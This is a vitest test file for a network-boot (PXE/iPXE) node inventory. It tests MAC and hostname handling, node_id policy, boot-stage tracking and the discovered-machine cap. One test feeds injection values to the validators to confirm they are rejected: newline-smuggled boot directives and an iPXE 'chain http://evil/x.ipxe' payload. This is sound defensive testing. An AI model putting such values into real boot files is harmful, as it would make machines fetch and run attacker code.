import { describe, expect, it } from 'vitest';
import { ConflictError, NotFoundError, ValidationError } from '../../../src/errors.js';
import { testInventory } from '../boot/helpers.js';

function inv() {
  const t = testInventory();
  t.inventory.clusters.add({ name: 'krg' });
  t.inventory.clusters.add({ name: 'lssi', nodeIdPolicy: 'from-ip' });
  return t.inventory;
}

describe('nodes', () => {
  it('stores the canonical MAC and finds a node by hostname, any MAC form or address', () => {
    const i = inv();
    i.nodes.add({ mac: '00-02-B3-3F-78-8C', hostname: 'Node31', ip: '10.0.1.31', cluster: 'krg' });
    expect(i.nodes.get('0002b33f788c').hostname).toBe('node31');
    expect(i.nodes.get('NODE31').mac).toBe('00:02:b3:3f:78:8c');
    expect(i.nodes.get('10.0.1.31').nodeId).toBe(1);
  });

  it('refuses duplicate MAC, hostname and address, naming the holder', () => {
    const i = inv();
    i.nodes.add({ mac: '00:02:b3:3f:78:8c', hostname: 'node31', ip: '10.0.1.31' });
    expect(() => i.nodes.add({ mac: '0002.b33f.788c', hostname: 'x' })).toThrow(/MAC 00:02:b3:3f:78:8c is already registered to node node31/);
    expect(() => i.nodes.add({ mac: '00:02:b3:3f:78:8d', hostname: 'NODE31' })).toThrow(ConflictError);
    expect(() => i.nodes.add({ mac: '00:02:b3:3f:78:8d', hostname: 'y', ip: '10.0.1.31' })).toThrow(/address 10.0.1.31/);
  });

  it('node_id is unique per cluster, the same id may exist in two clusters', () => {
    const i = inv();
    i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', cluster: 'krg', nodeId: 3 });
    i.nodes.add({ mac: '00:00:00:00:00:02', hostname: 'b', cluster: 'lssi', ip: '10.0.0.3' });
    expect(i.nodes.get('b').nodeId).toBe(3);
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:03', hostname: 'c', cluster: 'krg', nodeId: 3 })).toThrow(ConflictError);
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:03', hostname: 'c', cluster: 'lssi', ip: '10.0.9.3' })).toThrow(/node_id 3 \(from address 10.0.9.3\)/);
  });

  it('keeps node_id when the address changes (never silently renumbered), moves clusters by policy', () => {
    const i = inv();
    i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', cluster: 'lssi', ip: '10.0.0.7' });
    expect(i.nodes.update('a', { ip: '10.0.0.8' }).nodeId).toBe(7);
    expect(i.nodes.update('a', { cluster: 'krg' }).nodeId).toBe(1);
    expect(i.nodes.update('a', { nodeId: 12 }).nodeId).toBe(12);
  });

  it('refuses values that would inject directives into boot files', () => {
    const i = inv();
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', extraArgs: 'quiet\nLABEL evil' })).toThrow(ValidationError);
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a\nLABEL x' })).toThrow(/hostname/);
    expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz\nKERNEL x' }] })).toThrow(/labels\[0\]\.kernel/);
    expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz', args: 'a\rb' }] })).toThrow(/labels\[0\]\.args/);
    expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', localboot: 0, menuLabel: 'x\nMENU HIDDEN' }] })).toThrow(/menu_label/);
    // iPXE script syntax on the kernel line would run another command on the node.
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', extraArgs: 'quiet && chain http://evil/x.ipxe' })).toThrow(/"&&" \(iPXE script syntax/);
    expect(() => i.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'vmlinuz', args: 'x=${net0/mac}' }] })).toThrow(/labels\[0\]\.args: must not contain "\$\{"/);
  });

  it('says which cluster or profile is missing', () => {
    const i = inv();
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', cluster: 'nope' })).toThrow(NotFoundError);
    expect(() => i.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', profile: 'nope' })).toThrow(/no profile "nope"/);
  });

  it('approves a discovered machine into a node in one step', () => {
    const t = testInventory();
    t.backend.recordDiscovered({ mac: '52:54:00:12:34:56', arch: 0, uuid: null, vendorClass: 'PXEClient:Arch:00000', giaddr: '10.0.2.1', circuitId: 'rack2/port7', remoteId: null });
    expect(t.inventory.listDiscovered()).toHaveLength(1);
    const n = t.inventory.approveDiscovered('5254.0012.3456', { hostname: 'n7', rack: 'r2' });
    expect(n.mac).toBe('52:54:00:12:34:56');
    expect(t.inventory.listDiscovered()).toEqual([]);
  });

  it('records boot stages in order and moves the last stage', () => {
    const t = testInventory();
    const n = t.inventory.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a' });
    t.backend.recordStage(n, 'offer');
    t.backend.recordStage(n, 'kernel', 'images/vmlinuz');
    expect(t.inventory.eventsOf('a').map((e) => [e.stage, e.detail])).toEqual([['offer', null], ['kernel', 'images/vmlinuz']]);
    expect(t.inventory.nodes.get('a').lastStage).toBe('kernel');
  });

  it('a backdated stage (a TFTP file whose final ACK never came) sits where it happened and does not move the last stage back', () => {
    let now = Date.parse('2026-11-22T10:00:00Z');
    const t = testInventory({ clock: () => now });
    const n = t.inventory.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a' });
    t.backend.recordStage(n, 'kernel', 'images/vmlinuz');
    now += 3000;
    t.backend.recordStage(n, 'os-lease', '10.0.0.5');
    t.backend.recordStage(n, 'up');
    now += 2000; // the initrd transfer times out waiting for its last ACK, sent 1 s after the kernel
    t.backend.recordStage(n, 'initrd', 'images/initrd.img', 4000); // at 10:00:01
    expect(t.inventory.eventsOf('a').map((e) => e.stage)).toEqual(['kernel', 'initrd', 'os-lease', 'up']);
    expect(t.inventory.nodes.get('a').lastStage).toBe('up');
    t.backend.recordStage(n, 'config', 'pxelinux.cfg/x', 0); // backdated but newest: it is the last stage
    expect(t.inventory.nodes.get('a').lastStage).toBe('config');
  });

  it('classifies served files into boot stages', () => {
    const t = testInventory();
    t.inventory.profiles.add({ name: 'p', labels: [{ name: 'l', kernel: 'images/vmlinuz', initrds: ['images/initrd.img'] }] });
    const n = t.inventory.nodes.add({ mac: '00:00:00:00:00:01', hostname: 'a', profile: 'p' });
    expect(t.backend.stageForFile(n, 'pxelinux.0')).toBe('loader');
    expect(t.backend.stageForFile(n, 'X86PC/linux/ldlinux.c32')).toBe('loader');
    expect(t.backend.stageForFile(n, 'efi64/ldlinux.e64')).toBe('loader');
    expect(t.backend.stageForFile(n, 'X86PC/linux/pxelinux.cfg/01-00-00-00-00-00-01')).toBe('config');
    expect(t.backend.stageForFile(n, '/images/vmlinuz')).toBe('kernel');
    expect(t.backend.stageForFile(n, 'X86PC/linux/images/initrd.img')).toBe('initrd');
    expect(t.backend.stageForFile(n, 'other.bin')).toBeUndefined();
  });
});

describe('discovered list', () => {
  it('is capped: past the cap the least recently seen machines are evicted', async () => {
    const { DISCOVERED_CAP } = await import('../../../src/store/discovered.js');
    let now = Date.parse('2026-11-22T10:00:00Z');
    const t = testInventory({ clock: () => now });
    const mac = (i: number) => `02:00:00:${[(i >> 16) & 255, (i >> 8) & 255, i & 255].map((b) => b.toString(16).padStart(2, '0')).join(':')}`;
    const seen = (i: number) => t.backend.recordDiscovered({ mac: mac(i), arch: 0, uuid: null, vendorClass: null, giaddr: null, circuitId: null, remoteId: null });
    t.db.transaction(() => {
      for (let i = 0; i < DISCOVERED_CAP + 5; i++) {
        now += 1000;
        seen(i);
      }
    })();
    const list = t.inventory.listDiscovered();
    expect(list).toHaveLength(DISCOVERED_CAP);
    expect(list.some((d) => d.mac === mac(0))).toBe(false);
    expect(list.some((d) => d.mac === mac(DISCOVERED_CAP + 4))).toBe(true);
  });
});
